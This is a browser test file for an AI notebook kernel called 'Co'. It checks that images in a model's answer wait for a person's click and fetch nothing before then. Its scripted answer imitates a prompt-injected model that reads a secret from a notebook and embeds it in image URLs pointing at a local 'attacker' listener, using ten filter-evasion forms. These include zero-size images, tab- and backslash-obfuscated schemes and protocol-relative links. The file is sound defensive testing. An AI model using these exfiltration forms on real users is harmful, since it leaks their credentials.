"""Nothing Co shows fetches from outside without a person's click.

A folder holds ``report.ipynb`` whose saved output carries a secret; a cell asks Co to
summarise it; ``read_file`` runs (reads need no approval) and the replayed answer does
what an injected model does: it writes the secret into image URLs, in every form an
image reached the page in before (Markdown, ``<img>``, zero-size, inside ``<details>``, in
a table, reference-style, protocol-relative, an uppercase scheme, a tab in the scheme, a
backslash for a slash). The outside host is a listener on 127.0.0.1 that records every
request. In JupyterLab and Notebook 7 (servers as a person starts them, real Chromium)
none reaches it live, after a script clicks every placeholder, after saving and
reloading, on a fresh server (where the notebook is untrusted), nor from the nbconvert
HTML export opened from disk; a person's click on a placeholder loads its image. The
answer's table, code and link still render, and so does a figure Co drew. A notebook
that a Co before placeholders saved, live images in its HTML, fetches nothing on opening.
"""

from __future__ import annotations

import base64
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest

from co_kernel.replay import ScriptedModelServer

from ..support.kernel_harness import ensure_kernelspec
from ..support.lab_cells import wait_for_prompt
from ..support.lab_server import start_server
from .jupyterlab import chromium_page, open_notebook, run_cell, save_notebook, scripted_env
from .test_no_script import _nbconvert, settle

pytestmark = [pytest.mark.browser, pytest.mark.slow]

SECRET = "CO-SECRET-4711"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


class OutsideHost:
    """The attacker's host: an HTTP server on 127.0.0.1 that records each path asked of
    it (the form's name, the part before the query) and answers with a small PNG."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits
        body = base64.b64decode(PNG)

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path.split("?", 1)[0].strip("/"))
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def outside_host() -> Iterator[OutsideHost]:
    host = OutsideHost()
    try:
        yield host
    finally:
        host.close()


FORMS = [
    "md", "html", "zero", "details", "table", "ref", "proto", "upper", "tab", "backslash",
]  # fmt: skip


def answer(host: str) -> str:
    """What the injected model writes: good Markdown and the secret in every image form."""
    q = f"d={SECRET}&note=summary%20of%20report"
    return f"""## Report summary

| quarter | revenue |
|:--|--:|
| Q1 | 1,200 |

```python
print("revenue")
```

See [the source](https://example.org/sales).

![status](http://{host}/md?{q})

<img src="http://{host}/html?{q}">
<img width=0 height=0 src="http://{host}/zero?{q}">

<details><summary>More</summary><img src="http://{host}/details?{q}"></details>

| chart |
|---|
| ![t](http://{host}/table?{q}) |

![r][ref]

[ref]: http://{host}/ref?{q}

![p](//{host}/proto?{q})

<IMG SRC="HTTP://{host}/upper?{q}">
<img src="ht&#x09;tp://{host}/tab?{q}">
<img src="/\\{host}/backslash?{q}">

End of report."""


FIGURE = f"""%%python
import base64
from IPython.display import Image, display
display(Image(data=base64.b64decode("{PNG}")))"""


def _folder(tmp_path: Path) -> tuple[Path, Path]:
    """The notebooks folder: ``report.ipynb`` with its secret, and Co's notebook."""
    root = tmp_path / "notebooks"
    root.mkdir()
    report = nbformat.v4.new_notebook()
    report.cells = [
        nbformat.v4.new_code_cell(
            "load_credentials()",
            outputs=[nbformat.v4.new_output("stream", text=f"token: {SECRET}\n")],
        )
    ]
    nbformat.write(report, root / "report.ipynb")
    notebook = root / "co.ipynb"
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "co", "display_name": "Co", "language": "co"}
    nb.cells = [nbformat.v4.new_code_cell("summarise report.ipynb")]
    nb.cells.append(nbformat.v4.new_code_cell(FIGURE))
    nbformat.write(nb, notebook)
    return root, notebook


def _script(host: str) -> list[dict[str, Any]]:
    return [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "report.ipynb"}}]},
        {"text": answer(host)},
    ]


def check_answer(page: Any) -> None:
    """The answer renders (heading, table, code, link) and every image waits for a click,
    each showing its host and whole URL, the query decoded."""
    out = page.locator(".jp-OutputArea").first
    out.get_by_text("End of report.").wait_for()
    assert out.locator("h2", has_text="Report summary").count() == 1
    assert out.locator("table td", has_text="1,200").count() == 1
    assert out.locator("pre", has_text='print("revenue")').count() == 1
    assert out.locator('a[href="https://example.org/sales"]').count() == 1
    placeholders = out.locator(".co-remote-image")
    assert placeholders.count() == len(FORMS)
    assert out.locator("img").count() == 0
    text = out.text_content() or ""
    assert text.count(f"?d={SECRET}&note=summary of report") == len(FORMS)
    assert "Image from 127.0.0.1:" in text


def scripted_clicks(page: Any) -> None:
    """A script that ran in the page clicks every placeholder every way it can."""
    page.evaluate(
        """() => {
            for (const el of document.querySelectorAll('.co-remote-image')) {
                el.click();
                el.dispatchEvent(new MouseEvent('click', {bubbles: true}));
                el.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
                el.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true}));
            }
        }"""
    )


def test_remote_images_wait_for_a_persons_click_in_jupyterlab(tmp_path: Path) -> None:
    ensure_kernelspec()
    root, notebook = _folder(tmp_path)
    home = tmp_path / "co-home"
    home.mkdir()
    with outside_host() as outside, ScriptedModelServer(_script(outside.host)) as model:
        env = scripted_env(home, model)
        lab = start_server(root, env=env, base=tmp_path / "jupyter", expose_app=False)
        try:
            with chromium_page() as page:
                page.set_default_timeout(60_000)
                open_notebook(page, lab.url(f"lab/tree/{notebook.name}", reset=""))
                first = run_cell(page, 0)
                wait_for_prompt(first, "[1]:", timeout=120)
                figure = run_cell(page, 1)
                wait_for_prompt(figure, "[2]:", timeout=120)
                settle()
                assert outside.hits == [], f"images loaded live: {outside.hits}"
                check_answer(page)
                # Co's own figure stays an image, drawn from its data.
                drawn = figure.locator('.jp-OutputArea img[src^="data:image/png"]')
                assert drawn.count() == 1
                assert drawn.evaluate("img => img.naturalWidth") == 1

                scripted_clicks(page)
                settle()
                assert outside.hits == [], f"a script's click loaded: {outside.hits}"
                assert page.locator(".co-remote-image").count() == len(FORMS)

                save_notebook(page, notebook)
                open_notebook(page, lab.url(f"lab/tree/{notebook.name}"))
                settle()
                check_answer(page)
                assert outside.hits == [], f"images loaded after a reload: {outside.hits}"

                # A person's click loads that one image, and only it.
                page.locator(".co-remote-image").first.click()
                loaded = page.locator("img.co-remote-image-loaded")
                loaded.wait_for()
                deadline = time.monotonic() + 20
                while loaded.evaluate("img => img.naturalWidth") != 1:
                    assert time.monotonic() < deadline, "the clicked image never loaded"
                    time.sleep(0.1)
                assert outside.hits == ["md"]
        finally:
            lab.stop()

        # A fresh server: the notebook is untrusted there (its signature is unknown).
        fresh = start_server(root, env=env, base=tmp_path / "jupyter-2", expose_app=False)
        try:
            with chromium_page() as page:
                page.set_default_timeout(60_000)
                open_notebook(page, fresh.url(f"lab/tree/{notebook.name}"))
                settle()
                check_answer(page)
                assert outside.hits == ["md"], f"images loaded untrusted: {outside.hits}"

                # The nbconvert export, opened from disk.
                html = _nbconvert(notebook, tmp_path / "export")
                assert '<img src="http' not in html and "Report summary" in html
                page.goto((tmp_path / "export" / "co.html").as_uri())
                page.get_by_text("End of report.").wait_for()
                settle()
                assert page.locator(".co-remote-image").count() == len(FORMS)
                assert page.locator('img[src^="data:image/png"]').count() == 1
                assert outside.hits == ["md"], f"the export loaded: {outside.hits}"
        finally:
            fresh.stop()
        assert model.errors == []


def test_remote_images_wait_for_a_persons_click_in_notebook7(tmp_path: Path) -> None:
    ensure_kernelspec()
    root, notebook = _folder(tmp_path)
    home = tmp_path / "co-home"
    home.mkdir()
    with outside_host() as outside, ScriptedModelServer(_script(outside.host)) as model:
        env = scripted_env(home, model)
        server = start_server(
            root, env=env, app="notebook", base=tmp_path / "jupyter", expose_app=False
        )
        try:
            with chromium_page() as page:
                page.set_default_timeout(90_000)

                def load() -> None:
                    page.goto(server.url(f"notebooks/{notebook.name}"))
                    page.wait_for_selector(".jp-NotebookPanel .jp-Cell")
                    page.wait_for_function(
                        "() => document.querySelector('.co-ToolbarStatus .co-StatusBar-text')"
                        "?.textContent?.startsWith('Co · compat:scripted')"
                    )

                load()
                page.locator(".jp-Cell .jp-InputArea-editor").first.click()
                page.keyboard.press("Shift+Enter")
                wait_for_prompt(page.locator(".jp-Cell").first, "[1]:", timeout=120)
                settle()
                assert outside.hits == [], f"images loaded live in Notebook 7: {outside.hits}"
                check_answer(page)
                scripted_clicks(page)
                settle()
                assert outside.hits == [], f"a script's click loaded: {outside.hits}"

                save_notebook(page, notebook)
                load()
                settle()
                check_answer(page)
                assert outside.hits == [], f"images loaded after a reload: {outside.hits}"

                page.locator("summary", has_text="More").click()
                page.locator(".co-remote-image").nth(3).click()  # the one inside <details>
                page.locator("img.co-remote-image-loaded").wait_for()
                deadline = time.monotonic() + 20
                while outside.hits != ["details"]:
                    assert time.monotonic() < deadline, f"the click loaded {outside.hits}"
                    time.sleep(0.1)
        finally:
            server.stop()
        assert model.errors == []


def test_live_images_a_co_before_placeholders_saved_wait_for_a_click(tmp_path: Path) -> None:
    """A trusted notebook holding the HTML today's Co saved, live images included.

    The same output without Co's tag (another kernel's) loads its image, as JupyterLab
    does for any trusted output: the control that the notebook really is trusted and
    that the listener would hear.
    """
    ensure_kernelspec()
    with outside_host() as outside:
        root = tmp_path / "notebooks"
        root.mkdir()
        notebook = root / "saved.ipynb"
        nb = nbformat.v4.new_notebook()
        nb.metadata["kernelspec"] = {"name": "co", "display_name": "Co", "language": "co"}

        def cell(tag: str, metadata: dict[str, Any]) -> Any:
            html = (
                f'<div class="co-markdown"><p><strong>{tag}</strong> '
                f'<img src="http://{outside.host}/{tag}?d={SECRET}" alt="s"></p></div>'
            )
            output = nbformat.v4.new_output(
                "display_data", data={"text/html": html, "text/plain": tag}, metadata=metadata
            )
            return nbformat.v4.new_code_cell(f"cell {tag}", outputs=[output])

        nb.cells = [cell("old-co", {"co": {"request": "r1"}}), cell("other-kernel", {})]
        nbformat.write(nb, notebook)
        server = start_server(root, base=tmp_path / "jupyter", expose_app=False)
        try:
            subprocess.run(
                [sys.executable, "-m", "jupyter", "trust", str(notebook)],
                env=server.env,
                check=True,
                capture_output=True,
                timeout=60,
            )
            with chromium_page() as page:
                page.set_default_timeout(60_000)
                open_notebook(page, server.url(f"lab/tree/{notebook.name}"), idle=False)
                page.get_by_text("old-co").first.wait_for()
                deadline = time.monotonic() + 20
                while "other-kernel" not in outside.hits:
                    assert time.monotonic() < deadline, f"the control did not load: {outside.hits}"
                    time.sleep(0.1)
                settle()
                assert "old-co" not in outside.hits, "an image Co saved loaded on opening"
                placeholder = page.locator(".co-remote-image")
                assert placeholder.count() == 1
                assert f"/old-co?d={SECRET}" in (placeholder.text_content() or "")
                placeholder.click()
                deadline = time.monotonic() + 20
                while "old-co" not in outside.hits:
                    assert time.monotonic() < deadline, f"the click loaded nothing: {outside.hits}"
                    time.sleep(0.1)
        finally:
            server.stop()
